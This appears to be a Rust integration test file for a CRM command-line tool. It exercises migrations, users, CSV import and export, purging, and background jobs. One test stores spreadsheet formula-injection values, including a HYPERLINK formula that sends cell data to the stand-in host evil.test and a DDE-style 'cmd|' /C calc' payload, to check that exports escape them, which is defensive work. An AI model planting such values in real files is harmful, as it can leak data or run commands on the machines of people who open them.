//! The `crm` binary, run as an operator would, on SQLite and (with `CRM_TEST_DATABASE_URL`)
//! on PostgreSQL in a schema of its own.
#![allow(clippy::unwrap_used)]

use std::path::Path;

use assert_cmd::Command;
use crm_core::sqlx::{self, Connection as _, Executor as _};
use crm_core::{CustomFieldType, EntityKind, NewContact, NewCustomField};
use serde_json::Value;

// The per-backend harness of crm-core's behaviour tests: a fresh PostgreSQL schema per test,
// `CRM_TEST_REQUIRE_POSTGRES`, and the `CRM_TEST_LEDGER` record of tests that reached PostgreSQL.
#[path = "../../crm-core/tests/behaviour/harness.rs"]
#[allow(dead_code, unused_imports, unused_macros)]
mod harness;

/// A database for one test: a SQLite file in `dir`, or a fresh PostgreSQL schema.
async fn database(dir: &Path, postgres: bool) -> Option<String> {
    if postgres {
        harness::postgres_schema_url().await
    } else {
        Some(format!("sqlite://{}", dir.join("crm.db").display()))
    }
}

fn crm(url: &str, args: &[&str]) -> Command {
    let mut cmd = Command::cargo_bin("crm").unwrap();
    cmd.env("DATABASE_URL", url).args(args);
    cmd
}

/// Asserts that a run of `crm` succeeded, naming what it printed on standard error; answers its
/// standard output.
#[track_caller]
fn succeeded(out: &std::process::Output) -> &[u8] {
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(out.status.success(), "crm failed: {stderr}");
    &out.stdout
}

/// Runs `crm --json …`, expects success, returns the JSON it printed.
#[track_caller]
fn json(url: &str, args: &[&str]) -> Value {
    let out = crm(url, &[&["--json"], args].concat()).output().unwrap();
    serde_json::from_slice(succeeded(&out)).unwrap()
}

/// Runs `crm …`, expects success, returns standard output.
#[track_caller]
fn text(url: &str, args: &[&str]) -> String {
    let out = crm(url, args).output().unwrap();
    String::from_utf8(succeeded(&out).to_vec()).unwrap()
}

/// Asserts that every migration `crm migrate` listed in `status` is applied (or pending).
#[track_caller]
fn assert_every_migration(status: &Value, applied: bool) {
    let migrations = status.as_array().unwrap();
    assert!(!migrations.is_empty());
    assert!(
        migrations.iter().all(|m| m["applied"] == applied),
        "{status}"
    );
}

async fn organizations_users_and_errors(postgres: bool) {
    let dir = tempfile::tempdir().unwrap();
    let Some(url) = database(dir.path(), postgres).await else {
        return;
    };
    let status = json(&url, &["migrate", "--status"]);
    assert_every_migration(&status, false);
    let status = json(&url, &["migrate"]);
    assert_every_migration(&status, true);

    let org = json(&url, &["org", "create", "--name", "Acme Corp"]);
    assert_eq!(org["slug"], "acme-corp");
    assert_eq!(
        json(&url, &["org", "suspend", "acme-corp"])["status"],
        "suspended"
    );
    assert_eq!(
        json(&url, &["org", "resume", org["id"].as_str().unwrap()])["status"],
        "active"
    );
    assert_eq!(json(&url, &["org", "list"]).as_array().unwrap().len(), 1);

    let user = crm(
        &url,
        &[
            "--json",
            "user",
            "create",
            "--org",
            "acme-corp",
            "--email",
            "ann@acme.test",
            "--name",
            "Ann",
            "--role",
            "company_admin",
            "--password-stdin",
        ],
    )
    .write_stdin("correct horse battery\n")
    .output()
    .unwrap();
    succeeded(&user);
    json(
        &url,
        &[
            "user",
            "create",
            "--org",
            "acme-corp",
            "--email",
            "bob@acme.test",
            "--name",
            "Bob",
            "--no-password",
        ],
    );
    // A user created without a password gets one; it is the one that signs in. It is temporary
    // (Bob must change it at his next sign-in) unless `--permanent`.
    let set_password = |extra: &[&str], password: &str| {
        let args = [
            &["--json", "user", "set-password", "--org", "acme-corp"][..],
            &["bob@acme.test", "--password-stdin"],
            extra,
        ]
        .concat();
        let set = crm(&url, &args)
            .write_stdin(format!("{password}\n"))
            .output()
            .unwrap();
        succeeded(&set);
        serde_json::from_slice::<Value>(&set.stdout).unwrap()["must_change_password"].clone()
    };
    assert_eq!(set_password(&[], "a temporary one"), true);
    assert_eq!(set_password(&["--permanent"], "a password for bob"), false);
    {
        let crm = crm_core::Crm::connect(&url).await.unwrap();
        let acme = crm.organizations().get_by_slug("acme-corp").await.unwrap();
        let users = crm.tenant(&crm_core::TenantContext::system(acme.id));
        let users = users.users();
        let bob = users
            .authenticate("bob@acme.test", &"a password for bob".into())
            .await
            .unwrap();
        assert!(!bob.must_change_password);
        assert!(
            users
                .authenticate("bob@acme.test", &"wrong".into())
                .await
                .is_err()
        );
        crm.close().await;
    }
    assert_eq!(
        json(
            &url,
            &[
                "user",
                "set-role",
                "--org",
                "acme-corp",
                "bob@acme.test",
                "company_admin"
            ]
        )["role"],
        "company_admin"
    );
    assert_eq!(
        json(
            &url,
            &["user", "deactivate", "--org", "acme-corp", "bob@acme.test"]
        )["is_active"],
        false
    );
    assert_eq!(
        json(&url, &["user", "list", "--org", "acme-corp"])
            .as_array()
            .unwrap()
            .len(),
        2
    );

    // Clear messages and non-zero exit codes.
    for (args, message) in [
        (
            &["org", "suspend", "nope"][..],
            "unknown organization `nope`",
        ),
        (
            &[
                "user",
                "create",
                "--org",
                "acme-corp",
                "--email",
                "x@acme.test",
                "--name",
                "X",
            ],
            "--password-stdin",
        ),
        (
            &[
                "user",
                "set-role",
                "--org",
                "acme-corp",
                "ann@acme.test",
                "root",
            ],
            "unknown role",
        ),
        (&["org", "create", "--name", "Acme Corp"], "already exists"),
    ] {
        let out = crm(&url, args).output().unwrap();
        assert!(!out.status.success(), "{args:?}");
        let stderr = String::from_utf8_lossy(&out.stderr);
        assert!(stderr.contains(message), "{args:?}: {stderr}");
    }
    let out = crm("postgres://nobody@127.0.0.1:1/none", &["org", "list"])
        .output()
        .unwrap();
    assert!(!out.status.success());
    assert!(String::from_utf8_lossy(&out.stderr).contains("cannot open the database"));
}

async fn seed_import_export_round_trip_and_purge(postgres: bool) {
    let dir = tempfile::tempdir().unwrap();
    let Some(url) = database(dir.path(), postgres).await else {
        return;
    };
    let seeded = json(
        &url,
        &["seed", "--orgs", "1", "--records", "120", "--seed", "3"],
    );
    assert_eq!(
        (
            seeded["organizations"].as_u64(),
            seeded["contacts"].as_u64()
        ),
        (Some(1), Some(120))
    );
    assert_eq!(seeded["accounts"], 12);
    let again = crm(
        &url,
        &["seed", "--orgs", "1", "--records", "10", "--seed", "3"],
    )
    .output()
    .unwrap();
    assert!(!again.status.success(), "the same seed twice is refused");

    // Custom fields of every shape a CSV cell has to carry, on one contact of an account.
    let crm_lib = crm_core::Crm::connect(&url).await.unwrap();
    let seeded_org = crm_lib
        .organizations()
        .get_by_slug("seed-3-1")
        .await
        .unwrap();
    let t = crm_lib.tenant(&crm_core::TenantContext::system(seeded_org.id));
    for (key, ty, options) in [
        ("tags", CustomFieldType::MultiSelect, &["a, b", "c"][..]),
        ("budget", CustomFieldType::Currency, &[]),
        ("since", CustomFieldType::Date, &[]),
        ("vip", CustomFieldType::Boolean, &[]),
        ("note", CustomFieldType::Text, &[]),
    ] {
        let mut field = NewCustomField::new(key, key, ty);
        field.options = options.iter().map(|o| (*o).to_owned()).collect();
        t.custom_fields()
            .define(EntityKind::Contact, field)
            .await
            .unwrap();
    }
    let account = t
        .accounts()
        .list(&crm_core::ListQuery::default().limit(1))
        .await
        .unwrap()
        .data
        .remove(0);
    let mut mixed = NewContact {
        first_name: Some("Mixed".into()),
        last_name: Some("Cells, \"quoted\"".into()),
        email: Some("mixed@example.test".into()),
        account_id: Some(account.id),
        ..Default::default()
    };
    mixed.custom_fields = serde_json::from_value(serde_json::json!({
        "score": 7.5,
        "tags": ["a, b", "c"],
        "budget": { "amount_minor": 12345, "currency": "EUR" },
        "since": "2024-02-29",
        "vip": true,
        "note": "two\nlines, and a comma",
    }))
    .unwrap();
    t.contacts().create(mixed).await.unwrap();
    crm_lib.close().await;

    // An export imports back: every contact of the organization, once more, with the same
    // fields, account and custom fields.
    let export = text(
        &url,
        &[
            "export",
            "contacts",
            "--org",
            "seed-3-1",
            "--filter",
            "account_id:is_null:true",
        ],
    );
    assert_eq!(
        export.lines().count(),
        1,
        "seeded contacts all have an account: {export}"
    );
    let csv_path = dir.path().join("contacts.csv");
    let csv = csv_path.to_str().unwrap();
    let exported = text(
        &url,
        &["export", "contacts", "--org", "seed-3-1", "--output", csv],
    );
    assert!(exported.is_empty());
    let people = |org: &str| -> Vec<Value> {
        let mut rows: Vec<_> = text(
            &url,
            &["export", "contacts", "--org", org, "--format", "jsonl"],
        )
        .lines()
        .map(|l| {
            let v: Value = serde_json::from_str(l).unwrap();
            serde_json::json!([
                v["first_name"],
                v["last_name"],
                v["email"],
                v["title"],
                v["account_id"],
                v["custom_fields"],
            ])
        })
        .collect();
        rows.sort_by_key(Value::to_string);
        rows
    };
    let before = people("seed-3-1");
    assert_eq!(before.len(), 121);
    let csv = csv_path.to_str().unwrap();
    let import = [
        "import", "contacts", csv, "--org", "seed-3-1", "--batch", "50",
    ];
    // A database upgraded to migration 0014 has no match keys for its existing records:
    // `rebuild-match-keys` computes them (and what follows finds the duplicates through them).
    let forgotten = execute(&url, "delete from record_match_keys").await;
    assert!(forgotten >= 121, "{forgotten} match keys");
    let rebuilt = json(&url, &["rebuild-match-keys", "--org", "seed-3-1"]);
    assert!(rebuilt[0]["records"].as_u64().unwrap() >= 121, "{rebuilt}");
    // Every row is a likely duplicate of the record it was exported from: `reject` imports
    // nothing, the default (`warn`) imports them and lists them by line.
    let mut rejecting = import.to_vec();
    rejecting.extend(["--duplicates", "reject"]);
    let refused = crm(&url, &rejecting).output().unwrap();
    assert!(!refused.status.success());
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert!(stderr.contains("likely duplicates"), "{stderr}");
    assert!(stderr.contains("line 2: same "), "{stderr}");
    let report = json(&url, &import);
    assert_eq!(
        (report["rows"].as_u64(), report["imported"].as_u64()),
        (Some(121), Some(121))
    );
    let warned = report["duplicates"].as_array().unwrap();
    assert!(warned.len() >= 121, "{report}");
    assert!(warned.iter().any(|d| d["line"] == 2), "{report}");
    let after = people("seed-3-1");
    let changed: Vec<_> = before
        .iter()
        .filter(|p| after.iter().filter(|a| a == p).count() != 2)
        .take(3)
        .collect();
    assert!(
        after.len() == 2 * before.len() && changed.is_empty(),
        "the export did not come back as it left: {} contacts; not twice: {changed:?}",
        after.len()
    );

    // Into another organization, its account ids are foreign and its custom fields undefined:
    // refused, unless those columns are mapped away.
    json(&url, &["org", "create", "--name", "Copy"]);
    let defined = crm(&url, &["import", "contacts", csv, "--org", "copy"])
        .output()
        .unwrap();
    assert!(
        !defined.status.success(),
        "custom fields are not defined in the copy, and account ids are foreign"
    );
    let mut args = vec![
        "import",
        "contacts",
        csv,
        "--org",
        "copy",
        "--map",
        "account_id=",
    ];
    let ignored: Vec<String> = ["score", "tags", "budget", "since", "vip", "note"]
        .iter()
        .map(|k| format!("custom_fields.{k}="))
        .collect();
    for map in &ignored {
        args.extend(["--map", map]);
    }
    let report = json(&url, &args);
    assert_eq!(
        (report["rows"].as_u64(), report["imported"].as_u64()),
        (Some(121), Some(121))
    );
    let names = |rows: Vec<Value>| -> Vec<(Value, Value, Value)> {
        let mut names: Vec<_> = rows
            .into_iter()
            .map(|p| (p[0].clone(), p[1].clone(), p[2].clone()))
            .collect();
        names.sort_by_key(|n| format!("{n:?}"));
        names
    };
    assert_eq!(names(people("copy")), names(before));

    // A file with good and bad rows: all or nothing by default, or skip the bad ones.
    let mixed = dir.path().join("mixed.csv");
    std::fs::write(
        &mixed,
        "First,Last,E-mail,Phone\nAda,Lovelace,ada@x.test,1\nBad,Row,not-an-email,2\nGrace,Hopper,grace@x.test,3\n,,,4\n",
    )
    .unwrap();
    let maps = [
        "--map",
        "First=first_name",
        "--map",
        "Last=last_name",
        "--map",
        "E-mail=email",
        "--map",
        "Phone=phone",
    ];
    let run = |extra: &[&str]| {
        let args = [
            &[
                "--json",
                "import",
                "contacts",
                mixed.to_str().unwrap(),
                "--org",
                "acme",
            ][..],
            &maps,
            extra,
        ]
        .concat();
        crm(&url, &args).output().unwrap()
    };
    json(&url, &["org", "create", "--name", "Acme"]);
    let out = run(&["--dry-run"]);
    assert!(!out.status.success());
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    let lines: Vec<_> = report["rejected"]
        .as_array()
        .unwrap()
        .iter()
        .map(|r| r["line"].as_u64().unwrap())
        .collect();
    assert_eq!(lines, [3, 5], "rows are reported by their line in the file");
    assert!(
        report["rejected"][0]["reasons"][0]
            .as_str()
            .unwrap()
            .starts_with("email:")
    );
    let out = run(&[]);
    assert!(!out.status.success(), "all or nothing");
    assert!(
        text(&url, &["export", "contacts", "--org", "acme"])
            .lines()
            .count()
            == 1,
        "nothing imported"
    );
    let out = run(&["--skip-invalid"]);
    assert!(out.status.success());
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["imported"], 2);
    assert_eq!(
        text(&url, &["export", "contacts", "--org", "acme"])
            .lines()
            .count(),
        3
    );

    // Purge keeps what went to the trash within the retention period: Ada was trashed 40 days
    // ago, Grace just now. A dry run first, then for real.
    let trash = || -> Vec<String> {
        let mut emails: Vec<String> = text(
            &url,
            &[
                "export",
                "contacts",
                "--org",
                "acme",
                "--format",
                "jsonl",
                "--include-deleted",
            ],
        )
        .lines()
        .map(|l| serde_json::from_str::<Value>(l).unwrap())
        .inspect(|v| assert_eq!(v["is_deleted"], true, "every contact of acme is trashed"))
        .map(|v| v["email"].to_string())
        .collect();
        emails.sort();
        emails
    };
    let crm_lib = crm_core::Crm::connect(&url).await.unwrap();
    let org = crm_lib.organizations().get_by_slug("acme").await.unwrap();
    let t = crm_lib.tenant(&crm_core::TenantContext::system(org.id));
    // Trash both through the library itself (the CLI has no delete): same database.
    for contact in t
        .contacts()
        .list(&crm_core::ListQuery::default())
        .await
        .unwrap()
        .data
    {
        t.contacts().delete(contact.id).await.unwrap();
    }
    crm_lib.close().await;
    backdate_trash(&url, "ada@x.test", 40).await;
    let both = ["\"ada@x.test\"", "\"grace@x.test\""];
    assert_eq!(trash(), both);
    let dry = json(&url, &["purge", "--older-than", "30d", "--org", "acme"]);
    assert_eq!(dry.as_array().unwrap().len(), 1, "{dry}");
    assert_eq!(dry[0]["purged"], 1, "{dry}");
    assert_eq!(trash(), both, "a dry run deletes nothing");
    let done = json(
        &url,
        &["purge", "--older-than", "30d", "--org", "acme", "--yes"],
    );
    assert_eq!(
        (done[0]["entity"].as_str(), done[0]["purged"].as_u64()),
        (Some("contact"), Some(1)),
        "{done}"
    );
    assert_eq!(
        trash(),
        ["\"grace@x.test\""],
        "only what is older than 30 days"
    );
    let done = json(
        &url,
        &["purge", "--older-than", "0m", "--org", "acme", "--yes"],
    );
    assert_eq!(done[0]["purged"], 1, "{done}");
    assert!(trash().is_empty());

    // Feed retention: everything before now goes, once.
    let swept = ["sweep", "--org", "acme", "--keep-changes-days", "0"];
    let first = json(&url, &swept);
    assert!(first[0]["changes_expired"].as_u64() > Some(0), "{first}");
    let again = json(&url, &swept);
    assert_eq!(again[0]["changes_expired"], 0, "{again}");
    let plain = json(&url, &["sweep", "--org", "acme"]);
    assert!(plain[0].get("changes_expired").is_none(), "{plain}");
}

/// Runs one SQL statement straight on the test database (what no command can do); returns the
/// rows it changed.
async fn execute(url: &str, statement: &str) -> u64 {
    let statement = sqlx::AssertSqlSafe(statement.to_owned());
    if url.starts_with("postgres") {
        let mut db = sqlx::PgConnection::connect(url).await.unwrap();
        db.execute(statement).await.unwrap().rows_affected()
    } else {
        let mut db = sqlx::SqliteConnection::connect(url).await.unwrap();
        db.execute(statement).await.unwrap().rows_affected()
    }
}

/// Moves the moment the contact with `email` went to the trash `days` back, so that retention
/// has something old to find.
async fn backdate_trash(url: &str, email: &str, days: i64) {
    let when = (chrono::Utc::now() - chrono::TimeDelta::days(days)).to_rfc3339();
    let changed = execute(
        url,
        &format!(
            "update contacts set deleted_at = '{when}' where email = '{email}' and is_deleted"
        ),
    )
    .await;
    assert_eq!(changed, 1);
}

/// CSV as spreadsheets write it, and all or nothing over many batches.
async fn csv_imports_are_read_faithfully_and_all_or_nothing(postgres: bool) {
    let dir = tempfile::tempdir().unwrap();
    let Some(url) = database(dir.path(), postgres).await else {
        return;
    };
    json(&url, &["org", "create", "--name", "Acme"]);
    let file = |name: &str, text: &str| {
        let path = dir.path().join(name);
        std::fs::write(&path, text).unwrap();
        path.to_str().unwrap().to_owned()
    };
    let import = |path: &str, extra: &[&str]| {
        let args = [
            &["--json", "import", "contacts", path, "--org", "acme"][..],
            extra,
        ]
        .concat();
        crm(&url, &args).output().unwrap()
    };
    let contacts = || -> Vec<Value> {
        let mut rows: Vec<Value> = text(
            &url,
            &["export", "contacts", "--org", "acme", "--format", "jsonl"],
        )
        .lines()
        .map(|l| serde_json::from_str(l).unwrap())
        .collect();
        rows.sort_by_key(|v| v["email"].to_string());
        rows
    };

    // A byte order mark before the header (as spreadsheets save), quoted cells with commas,
    // quotes and line breaks, and CRLF line ends.
    let spreadsheet = file(
        "spreadsheet.csv",
        "\u{feff}first_name,last_name,email,title\r\n\
         Ada,Lovelace,ada@x.test,\"Head of\r\nResearch, \"\"Analytical\"\" Engines\"\r\n\
         Grace,\"Hopper, RN\",grace@x.test,Admiral\r\n",
    );
    let out = import(&spreadsheet, &[]);
    succeeded(&out);
    let imported = contacts();
    assert_eq!(imported.len(), 2);
    assert_eq!(
        imported[0]["first_name"], "Ada",
        "the BOM is not part of the header"
    );
    assert_eq!(
        imported[0]["title"],
        "Head of\r\nResearch, \"Analytical\" Engines"
    );
    assert_eq!(imported[1]["last_name"], "Hopper, RN");

    // Batches of two; a row of the wrong width after two clean batches (and after a cell over
    // two lines, so its line is not its row number).
    let mut rows = String::from("first_name,last_name,email,title\n");
    rows.push_str("A,One,a1@y.test,\"Two\nlines\"\n");
    for i in 2..=4 {
        rows.push_str(&format!("A,Row{i},a{i}@y.test,T\n"));
    }
    rows.push_str("A,Wide,wide@y.test,T,extra\n"); // line 7
    rows.push_str("A,Six,a6@y.test,T\n");
    let wide = file("wide.csv", &rows);
    let out = import(&wide, &["--batch", "2"]);
    assert!(!out.status.success());
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(report["rejected"][0]["line"], 7, "{report}");
    assert_eq!(
        report["rejected"][0]["reasons"][0], "5 cells where the header has 4",
        "{report}"
    );
    assert_eq!(contacts().len(), 2, "all or nothing: nothing imported");
    let out = import(&wide, &["--batch", "2", "--skip-invalid"]);
    succeeded(&out);
    let report: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_eq!(
        (report["rows"].as_u64(), report["imported"].as_u64()),
        (Some(6), Some(5))
    );
    assert_eq!(contacts().len(), 7);

    // A write that fails in the third batch, after two were written: nothing stays. (The check
    // pass cannot see it coming: the database refuses the row only when it is inserted.)
    let trigger = if postgres {
        "create function refuse_boom() returns trigger language plpgsql as \
         $$ begin raise exception 'boom refused'; end $$; \
         create trigger refuse_boom before insert on contacts for each row \
         when (new.email = 'boom@z.test') execute function refuse_boom()"
    } else {
        "create trigger refuse_boom before insert on contacts \
         when new.email = 'boom@z.test' begin select raise(abort, 'boom refused'); end"
    };
    execute(&url, trigger).await;
    let mut rows = String::from("first_name,last_name,email\n");
    for i in 1..=4 {
        rows.push_str(&format!("B,Row{i},b{i}@z.test\n"));
    }
    rows.push_str("B,Boom,boom@z.test\nB,Last,b6@z.test\n");
    let late = file("late.csv", &rows);
    let out = import(&late, &["--batch", "2"]);
    let stderr = String::from_utf8_lossy(&out.stderr);
    assert!(!out.status.success(), "{stderr}");
    assert!(stderr.contains("nothing was imported"), "{stderr}");
    assert_eq!(contacts().len(), 7, "the first two batches were undone too");
}

/// Text that a spreadsheet would run as a formula (a lead from the public web form named
/// `=HYPERLINK(…)`) is exported with a leading `'`, in standard and custom-field columns; numbers
/// stay numbers; `--raw` writes what is stored; and the escaped export imports back unchanged.
async fn csv_exports_do_not_write_live_formulas(postgres: bool) {
    let dir = tempfile::tempdir().unwrap();
    let Some(url) = database(dir.path(), postgres).await else {
        return;
    };
    let crm_lib = crm_core::Crm::connect(&url).await.unwrap();
    let mut tenants = Vec::new();
    for name in ["Acme", "Copy"] {
        json(&url, &["org", "create", "--name", name]);
        let slug = name.to_lowercase();
        let org = crm_lib.organizations().get_by_slug(&slug).await.unwrap();
        let t = crm_lib.tenant(&crm_core::TenantContext::system(org.id));
        for (key, ty) in [
            ("note", CustomFieldType::Text),
            ("score", CustomFieldType::Number),
        ] {
            t.custom_fields()
                .define(EntityKind::Lead, NewCustomField::new(key, key, ty))
                .await
                .unwrap();
        }
        tenants.push(t);
    }
    let hyperlink = "=HYPERLINK(\"https://evil.test/?\"&A1,\"Open\")";
    let mut lead = crm_core::NewLead {
        first_name: Some(hyperlink.into()),
        last_name: Some("+1+1".into()),
        company: Some("@SUM(1,1)".into()),
        title: Some("-2+3+cmd|' /C calc'!A0".into()),
        phone: Some("'=already quoted".into()),
        email: Some("form@example.test".into()),
        ..Default::default()
    };
    lead.custom_fields = serde_json::from_value(serde_json::json!({
        "note": "=1+1",
        "score": -1200,
    }))
    .unwrap();
    tenants[0].leads().create(lead).await.unwrap();
    crm_lib.close().await;

    let export = |extra: &[&str]| -> Vec<std::collections::HashMap<String, String>> {
        let out = text(
            &url,
            &[&["export", "leads", "--org", "acme"], extra].concat(),
        );
        csv::Reader::from_reader(out.as_bytes())
            .deserialize()
            .map(Result::unwrap)
            .collect()
    };
    let escaped = export(&[]);
    let row = &escaped[0];
    for (column, cell) in [
        ("first_name", format!("'{hyperlink}")),
        ("last_name", "'+1+1".into()),
        ("company", "'@SUM(1,1)".into()),
        ("title", "'-2+3+cmd|' /C calc'!A0".into()),
        ("phone", "''=already quoted".into()),
        ("email", "form@example.test".into()),
        ("custom_fields.note", "'=1+1".into()),
        // A number is data: a spreadsheet reads `-1200` as minus twelve hundred.
        ("custom_fields.score", "-1200".into()),
    ] {
        assert_eq!(row[column], cell, "{column}");
    }
    let raw = export(&["--raw"]);
    assert_eq!(raw[0]["first_name"], hyperlink);
    assert_eq!(raw[0]["phone"], "'=already quoted");
    assert_eq!(raw[0]["custom_fields.note"], "=1+1");

    // The escaped file imports back to what was stored.
    let file = dir.path().join("leads.csv");
    let file = file.to_str().unwrap();
    text(
        &url,
        &["export", "leads", "--org", "acme", "--output", file],
    );
    succeeded(
        &crm(&url, &["import", "leads", file, "--org", "copy"])
            .output()
            .unwrap(),
    );
    let stored = |org: &str| -> Value {
        let line = text(
            &url,
            &["export", "leads", "--org", org, "--format", "jsonl"],
        );
        let v: Value = serde_json::from_str(line.trim()).unwrap();
        serde_json::json!([
            v["first_name"],
            v["last_name"],
            v["company"],
            v["title"],
            v["phone"],
            v["custom_fields"],
        ])
    };
    assert_eq!(stored("copy"), stored("acme"));
}

#[tokio::test]
async fn sqlite_csv_exports_do_not_write_live_formulas() {
    csv_exports_do_not_write_live_formulas(false).await;
}

#[tokio::test]
async fn postgres_csv_exports_do_not_write_live_formulas() {
    csv_exports_do_not_write_live_formulas(true).await;
}

/// `crm jobs plan` enqueues each organization's daily jobs once; `crm worker` runs them and
/// stops on SIGTERM; `crm jobs list|retry|cancel` show and steer them.
async fn jobs_are_planned_worked_and_listed(postgres: bool) {
    let dir = tempfile::tempdir().unwrap();
    let Some(url) = database(dir.path(), postgres).await else {
        return;
    };
    // A queue of this test's own (PostgreSQL tests share the `apalis` schema).
    let queue = format!("cli-{}", uuid::Uuid::now_v7().simple());
    let crm = |args: &[&str]| {
        let mut cmd = crm(&url, args);
        cmd.env("CRM_JOB_QUEUE", &queue);
        cmd
    };
    let json = |args: &[&str]| -> Value {
        let out = crm(&[&["--json"], args].concat()).output().unwrap();
        serde_json::from_slice(succeeded(&out)).unwrap()
    };
    json(&["org", "create", "--name", "Acme"]);
    assert_eq!(json(&["jobs", "plan"])["planned"], 3);
    assert_eq!(json(&["jobs", "plan"])["planned"], 0, "once a day");
    if !postgres {
        // apalis's migrations keep to a table of their own: a host application's
        // `_sqlx_migrations` in the same file stays its own.
        use crm_core::sqlx::Connection as _;
        let mut conn = crm_core::sqlx::SqliteConnection::connect(&url)
            .await
            .unwrap();
        let tables: Vec<(String,)> = crm_core::sqlx::query_as(
            "select name from sqlite_master where type = 'table' and name like '%migrations'",
        )
        .fetch_all(&mut conn)
        .await
        .unwrap();
        let mut names: Vec<_> = tables.into_iter().map(|(n,)| n).collect();
        names.sort();
        assert_eq!(names, ["_apalis_migrations", "_crm_migrations"]);
    }
    let pending = json(&["jobs", "list", "--status", "pending"]);
    assert_eq!(pending.as_array().unwrap().len(), 3, "{pending}");
    let bad = crm(&["jobs", "list", "--status", "asleep"])
        .output()
        .unwrap();
    assert!(!bad.status.success());
    assert!(String::from_utf8_lossy(&bad.stderr).contains("one of pending"));

    // Cancel one before any worker runs.
    let cancelled = pending[0]["id"].as_str().unwrap().to_owned();
    json(&["jobs", "cancel", &cancelled]);

    let mut worker = std::process::Command::new(assert_cmd::cargo::cargo_bin("crm"))
        .args(["worker", "--no-plan"])
        .env("DATABASE_URL", &url)
        .env("CRM_JOB_QUEUE", &queue)
        .env("NO_COLOR", "1")
        .stdout(std::process::Stdio::null())
        .stderr(std::process::Stdio::null())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(60);
    loop {
        let done = json(&["jobs", "list", "--status", "done"]);
        if done.as_array().unwrap().len() == 2 {
            break;
        }
        assert!(std::time::Instant::now() < deadline, "not run: {done}");
        std::thread::sleep(std::time::Duration::from_millis(200));
    }
    let killed = std::process::Command::new("kill")
        .args(["-TERM", &worker.id().to_string()])
        .status()
        .unwrap();
    assert!(killed.success());
    assert!(worker.wait().unwrap().success(), "a stopped worker exits 0");

    let all = json(&["jobs", "list"]);
    let status = |id: &str| {
        all.as_array()
            .unwrap()
            .iter()
            .find(|j| j["id"] == id)
            .map(|j| j["status"].clone())
    };
    assert_eq!(status(&cancelled), Some(Value::from("cancelled")));
    let text =
        String::from_utf8(succeeded(&crm(&["jobs", "list"]).output().unwrap()).to_vec()).unwrap();
    assert_eq!(text.lines().count(), 3, "{text}");
    // A done job is neither retried nor cancelled; a cancelled one can be retried.
    let done_id = all
        .as_array()
        .unwrap()
        .iter()
        .find(|j| j["status"] == "done")
        .unwrap()["id"]
        .as_str()
        .unwrap()
        .to_owned();
    let refused = crm(&["jobs", "retry", &done_id]).output().unwrap();
    assert!(!refused.status.success());
    assert!(String::from_utf8_lossy(&refused.stderr).contains("no dead or cancelled job"));
    json(&["jobs", "retry", &cancelled]);
    assert_eq!(
        json(&["jobs", "list", "--status", "pending"])[0]["id"],
        cancelled.as_str()
    );
}

/// Each organization keeps trashed records as long as `crm org set-retention` says (30 days by
/// default): the daily purge job reads it.
async fn trash_retention_is_per_organization(postgres: bool) {
    let dir = tempfile::tempdir().unwrap();
    let Some(url) = database(dir.path(), postgres).await else {
        return;
    };
    let kept = json(&url, &["org", "create", "--name", "Keeps"]);
    assert_eq!(kept["trash_retention_days"], 30, "the default");
    json(&url, &["org", "create", "--name", "Forgets"]);
    let set = json(&url, &["org", "set-retention", "forgets", "--days", "5"]);
    assert_eq!(set["trash_retention_days"], 5);
    for bad in ["0", "36501"] {
        let out = crm(&url, &["org", "set-retention", "forgets", "--days", bad])
            .output()
            .unwrap();
        assert!(!out.status.success());
        assert!(String::from_utf8_lossy(&out.stderr).contains("between 1 and 36500"));
    }

    // A contact of each, trashed 10 days ago.
    let lib = crm_core::Crm::connect(&url).await.unwrap();
    let mut orgs = Vec::new();
    for slug in ["keeps", "forgets"] {
        let org = lib.organizations().get_by_slug(slug).await.unwrap();
        let t = lib.tenant(&crm_core::TenantContext::system(org.id));
        let email = format!("gone@{slug}.test");
        let c = t
            .contacts()
            .create(crm_core::NewContact {
                email: Some(email.clone()),
                ..Default::default()
            })
            .await
            .unwrap();
        t.contacts().delete(c.id).await.unwrap();
        backdate_trash(&url, &email, 10).await;
        let job = crm_core::Job::PurgeTrash {
            organization_id: org.id,
        };
        job.run(&lib, None).await.unwrap();
        orgs.push((t, c.id));
    }
    let [(keeps, a), (forgets, b)] = <[_; 2]>::try_from(orgs).ok().unwrap();
    assert!(
        keeps.contacts().get_including_deleted(a).await.is_ok(),
        "kept: 30 days"
    );
    assert!(
        forgets.contacts().get_including_deleted(b).await.is_err(),
        "purged: 5 days"
    );
    lib.close().await;
}

/// One request read off `stream`: its `webhook-id` and body.
fn read_request(stream: &mut std::net::TcpStream) -> (String, String) {
    use std::io::Read as _;
    let mut buf = Vec::new();
    let mut chunk = [0u8; 4096];
    let (head_end, length) = loop {
        let n = stream.read(&mut chunk).unwrap();
        assert!(n > 0, "the connection closed before a request came");
        buf.extend_from_slice(&chunk[..n]);
        if let Some(end) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
            let head = String::from_utf8_lossy(&buf[..end]).to_ascii_lowercase();
            let length = head
                .lines()
                .find_map(|l| l.strip_prefix("content-length:"))
                .map_or(0, |v| v.trim().parse::<usize>().unwrap());
            break (end + 4, length);
        }
    };
    while buf.len() < head_end + length {
        let n = stream.read(&mut chunk).unwrap();
        assert!(n > 0, "the connection closed inside the body");
        buf.extend_from_slice(&chunk[..n]);
    }
    let head = String::from_utf8_lossy(&buf[..head_end]).into_owned();
    let id = head
        .lines()
        .find_map(|l| {
            l.to_ascii_lowercase()
                .strip_prefix("webhook-id:")
                .map(|v| v.trim().to_owned())
        })
        .unwrap_or_default();
    (id, String::from_utf8_lossy(&buf[head_end..]).into_owned())
}

/// Item 5 of the webhooks issue: `crm worker` killed (SIGKILL) while a receiver holds its
/// delivery unanswered; a new worker sends the same change again, with the same `webhook-id`,
/// once the dead worker's lease runs out.
async fn webhook_deliveries_survive_a_killed_worker(postgres: bool) {
    let dir = tempfile::tempdir().unwrap();
    let Some(url) = database(dir.path(), postgres).await else {
        return;
    };
    let org = json(&url, &["org", "create", "--name", "Acme"]);
    let org = crm_core::OrganizationId::from_uuid(org["id"].as_str().unwrap().parse().unwrap());
